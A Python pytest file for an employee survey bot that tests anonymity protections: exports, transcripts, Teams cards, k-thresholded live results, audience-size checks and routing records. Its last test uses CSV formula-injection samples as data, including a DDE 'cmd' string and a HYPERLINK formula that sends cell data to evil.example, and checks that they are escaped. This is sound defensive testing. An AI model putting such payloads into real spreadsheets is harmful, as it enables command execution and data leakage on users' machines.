"""Anonymity attacks, each written as the attacker would try it: HR, a coordinator or a viewer
reading transcripts, exports, live results, routing records and CSV files; none learns an answer
or who asked."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import func, select
from typer.testing import CliRunner

from bot.admin.people import PeopleAdminService
from bot.admin.roles import CLI
from bot.cli import app as cli
from bot.config import Settings
from bot.people.audience import Audience
from bot.questions.service import QuestionService
from bot.surveys import waves
from bot.surveys.export import results_csv
from bot.surveys.results import wave_results
from storage.models import Question, SurveyParticipation, SurveyWave
from tests.questions_support import ambassador, open_question, person
from tests.support.admin import admin_settings, bearer, make_token
from tests.support.surveys import (
    SILENT,
    TEMPLATES,
    add_people,
    answer,
    answered_in_chat,
    close,
    imported,
    open_wave,
)
from tests.support.teams import action_titled, card_of, connector, teams, texts

__all__ = ["connector", "teams"]  # fixtures

RECORDED = "Answer recorded"


@pytest.fixture
def settings(db_url: str) -> Settings:
    return admin_settings(db_url)


async def _export(app: FastAPI, email: str) -> dict[str, Any]:
    context = app.state.context
    async with context.db.unit_of_work() as session:
        return await PeopleAdminService(session, context.clock).export(CLI, email)


async def test_transcript_and_export_hold_no_answer_and_forget_the_wave(  # type: ignore[no-untyped-def]
    app: FastAPI, chat, clock, deliver
) -> None:
    wave_id, people, comments = await answered_in_chat(app, chat, deliver)
    for someone in people:
        exported = await _export(app, someone.user)
        text = json.dumps(exported, ensure_ascii=False)
        assert not any(comment in text for comment in comments)
        transcript = exported["webchat_messages"]
        assert [m["text"] for m in transcript if m["from"] == "user"] == ["hi"]  # no line per answer
        assert {m["chosen"] for m in transcript} <= {None, RECORDED}
        history = await someone.history()
        assert not any(comment in json.dumps(history) for comment in comments)
    await close(app.state.context, clock, wave_id)
    for someone in people:
        history = json.dumps(await someone.history(), ensure_ascii=False)
        assert "Employee Net Promoter Score" not in history and RECORDED not in history


async def test_question_text_leaves_the_transcript_at_retention(  # type: ignore[no-untyped-def]
    app: FastAPI, chat, clock
) -> None:
    anna = chat("anna.asker@example.org", "Anna")
    secret = "How do I hide my screen from my manager zebra?"
    await anna.say(f"ask {secret}")
    context = app.state.context
    async with context.db.unit_of_work() as session:
        question = (await session.scalars(select(Question))).one()
        question.anonymous, question.status = True, "resolved"
        question.erase_after = clock.now()
    assert secret in json.dumps(await anna.history(), ensure_ascii=False)
    exported = await _export(app, anna.user)  # her own export lists it while the link exists
    assert [(q["text"], q["anonymous"]) for q in exported["questions"]["asked"]] == [(secret, True)]
    async with context.db.unit_of_work() as session:
        assert await QuestionService(session, context).questions.erase_askers(clock.now()) == 1
    assert secret not in json.dumps(await anna.history(), ensure_ascii=False)
    assert secret not in json.dumps(await _export(app, anna.user), ensure_ascii=False)


async def test_another_persons_export_never_names_the_anonymous_asker(app: FastAPI, clock) -> None:
    context = app.state.context
    now = clock.now()
    async with context.db.unit_of_work() as session:
        bo = await ambassador(session, "bo@example.org", now)
        asker = await person(session, "quiet@example.org", now)
        await open_question(session, asker, now, anonymous=True, assigned_id=bo.person_id)
    assert "quiet" not in json.dumps(await _export(app, "bo@example.org"))
    own = await _export(app, "quiet@example.org")
    assert own["questions"]["asked"][0]["anonymous"] is True


async def test_teams_card_redrawn_after_an_answer_does_not_show_it(app: FastAPI, teams, connector) -> None:  # type: ignore[no-untyped-def]
    context = app.state.context
    await imported(context, "anna@example.org", *SILENT)
    connector.members["29:anna"] = {"id": "29:anna", "name": "Anna", "email": "anna@example.org"}
    anna = teams("29:anna", "Anna")
    await open_wave(context, "enps")
    await anna.say("survey")
    [question] = connector.messages()
    await anna.submit(action_titled(card_of(question.body), "7")["data"], reply_to=question.id)
    [update] = connector.updates()
    redrawn = texts(card_of(update.body))
    assert redrawn[-1] == f"✓ {RECORDED}" and "✓ 7" not in redrawn


async def test_live_results_move_only_by_k_answers_and_hide_comments(  # type: ignore[no-untyped-def]
    app: FastAPI, http: httpx.AsyncClient, clock
) -> None:
    context = app.state.context
    people = await add_people(context, {("Sales", "employee"): 12})
    live = await open_wave(context, "enps", live_results=True)
    quiet = await open_wave(context, "enps")
    viewer = bearer(await make_token(app, "viewer"))
    seen: list[dict[str, int]] = []
    for i, person_id in enumerate(people):
        await answer(context, live, person_id, "recommend", str(i % 11))
        await answer(context, live, person_id, "why", f"comment {i}")
        await answer(context, quiet, person_id, "recommend", str(i % 11))
        polled = (await http.get(f"/api/v1/surveys/{live}", headers=viewer)).json()
        recommend = next(q for q in polled["questions"] if q["question_id"] == "recommend")
        why = next(q for q in polled["questions"] if q["question_id"] == "why")
        assert why["comments"] is None  # comments only after close
        seen.append(recommend["overall"]["distribution"])
        hidden = (await http.get(f"/api/v1/surveys/{quiet}", headers=viewer)).json()
        assert hidden["figures"] == "turnout" and hidden["questions"] == []
    await answer(context, live, people[0], "recommend", "10")  # changed: not visible on its own
    polled = (await http.get(f"/api/v1/surveys/{live}", headers=viewer)).json()
    seen.append(
        next(q for q in polled["questions"] if q["question_id"] == "recommend")["overall"]["distribution"]
    )
    k = context.settings.min_group_size
    changes = [
        sum(abs(after.get(v, 0) - before.get(v, 0)) for v in {*before, *after})
        for before, after in zip(seen, seen[1:], strict=False)
        if before != after
    ]
    assert changes and all(change >= k for change in changes)  # never one answer's difference
    await close(context, clock, live)
    final = (await http.get(f"/api/v1/surveys/{live}", headers=viewer)).json()
    assert final["figures"] == "final" and final["questions"][1]["comments"]


async def test_a_made_up_audience_is_refused_everywhere(  # type: ignore[no-untyped-def]
    app: FastAPI, chat, http: httpx.AsyncClient, server: str, db_url: str
) -> None:
    from tests.test_dashboard import csrf_of
    from tests.test_role_matrix import login

    context = app.state.context
    await imported(context, "one.person@example.org")
    for i in range(4):
        await chat(f"madeup{i}@example.org").say("hi")  # self-created, in a department HR names
    emails = ["one.person@example.org", *(f"madeup{i}@example.org" for i in range(4))]
    args = ["survey", "create", "enps", "--opens", "2026-12-01T09:00", "--closes", "2026-12-08T09:00"]
    result = await asyncio.to_thread(  # the command line runs its own event loop
        CliRunner().invoke,
        cli,
        [*args, *(x for e in emails for x in ("--email", e))],
        env={"STAFET_DATABASE_URL": db_url},
    )
    assert result.exit_code == 1
    assert "That audience has 1 people who were imported or verified on Slack or Teams" in result.output
    coordinator = bearer(await make_token(app, "coordinator"))
    body = {"template_id": "enps", "opens_on": "2026-12-01", "closes_on": "2026-12-04"}
    refused = await http.post("/api/v1/surveys", json=body, headers=coordinator)
    assert refused.status_code == 422
    assert refused.json()["error"]["code"] == "surveys_error_audience_too_small"
    async with httpx.AsyncClient(base_url=server) as browser:
        await login(browser, await make_token(app, "coordinator", "Cora"))
        page = await browser.get("/admin/surveys")
        form = {
            "csrf": csrf_of(page.text),
            "template": "enps",
            "opens_on": "2026-12-07",
            "closes_on": "2026-12-09",
        }
        shown = await browser.post("/admin/surveys", data=form)
        assert shown.status_code == 422 and "a survey needs at least 5" in shown.text
    # A wave planned past the check (a campaign's pulse) is cancelled at opening, nobody invited.
    async with context.db.unit_of_work() as session:
        wave_id = await waves.schedule_wave(
            session, context.clock, template_id="enps", audience=Audience(emails=tuple(emails)),
            opens_at=context.clock.now(), closes_at=context.clock.now().replace(year=2027),
        )  # fmt: skip
    async with context.db.unit_of_work() as session:
        assert await waves.open_due(session, context.clock, TEMPLATES, 5) == []
        assert (await session.get(SurveyWave, wave_id)).status == "cancelled"
        assert await session.scalar(select(func.count()).select_from(SurveyParticipation)) == 0


async def test_routing_record_is_the_same_whoever_asked(app: FastAPI, clock) -> None:
    context = app.state.context
    now = clock.now()
    records = []
    async with context.db.unit_of_work() as session:
        a = await ambassador(session, "a@example.org", now)
        await ambassador(session, "b@example.org", now)
        outsider = await person(session, "c@example.org", now)
        for asker_id in (a.person_id, outsider.id):
            asker = await session.get(type(outsider), asker_id)
            question = await open_question(session, asker, now, anonymous=True)
            await QuestionService(session, context).route(question, "asked")
            records.append({k: v for k, v in question.routing[-1].items() if k == "candidates"})
    assert records == [{"candidates": 2}, {"candidates": 2}]


async def test_csv_cells_cannot_run_as_formulas(app: FastAPI, clock) -> None:
    context = app.state.context
    people = await add_people(context, {("=cmd|' /C calc'!A0", "employee"): 10})
    wave_id = await open_wave(context, "enps")
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for i, person_id in enumerate(people):
        await answer(context, wave_id, person_id, "recommend", "7")
        await answer(context, wave_id, person_id, "why", attacks[i % len(attacks)] + f" #{i}")
    await close(context, clock, wave_id)
    async with context.db.unit_of_work() as session:
        found = await wave_results(session, wave_id, k=5, templates=TEMPLATES)
    cells = [cell for row in csv.reader(io.StringIO(results_csv(found))) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert any(cell.startswith("'=cmd") for cell in cells)  # a group name is text too
